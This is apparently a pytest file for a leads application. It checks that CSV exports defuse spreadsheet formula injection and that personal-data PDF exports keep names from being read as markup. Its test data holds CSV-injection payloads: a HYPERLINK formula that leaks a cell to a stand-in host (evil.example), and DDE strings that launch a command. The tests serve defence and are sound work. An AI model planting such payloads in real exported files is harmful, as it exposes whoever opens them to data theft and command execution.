"""Exports cannot attack the reader: spreadsheet formulas are defused (CSV injection), phone
numbers stay readable, and names never become PDF markup."""
from __future__ import annotations

import csv

import pytest

from app.domain.lead_export import export_leads
from app.domain.lead_records import LeadInput
from app.domain.leads import create_lead

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.mark.parametrize("label", list(HOSTILE))
def test_formula_cells_are_text_in_a_spreadsheet(sqlite_db, clock, tmp_path, label):
    value = HOSTILE[label]
    create_lead(sqlite_db, LeadInput(full_name=f"X{label}", email="x@example.com", diagnosis=value, phones=[("+7 916 123-45-67", "mobile")]),
                clock=clock)
    path = tmp_path / "leads.csv"
    export_leads(sqlite_db, path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        row = next(csv.DictReader(handle))
    stored = value.strip()  # the lead's text is stored trimmed
    assert row["diagnosis"] == ("'" + stored if stored[0] in "=+-@\t\r" else stored)
    assert not row["diagnosis"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["phone_e164"] == "+79161234567" and row["phones"].startswith("+7 916")  # numbers stay as they are


def test_names_are_never_pdf_markup(sqlite_db, clock, tmp_path):
    from pypdf import PdfReader

    from app.safety.personal_export import export_personal_data

    name = '<para><b>Ivan</b></para> & <font color="red">Petrov</font> &lt;'
    created = create_lead(sqlite_db, LeadInput(full_name=name, email="ivan@example.com"), clock=clock)
    pdf = export_personal_data(sqlite_db, created.reference, tmp_path / "p.json", clock=clock).pdf_path
    text = "".join(page.extract_text() for page in PdfReader(pdf).pages)
    assert name in text
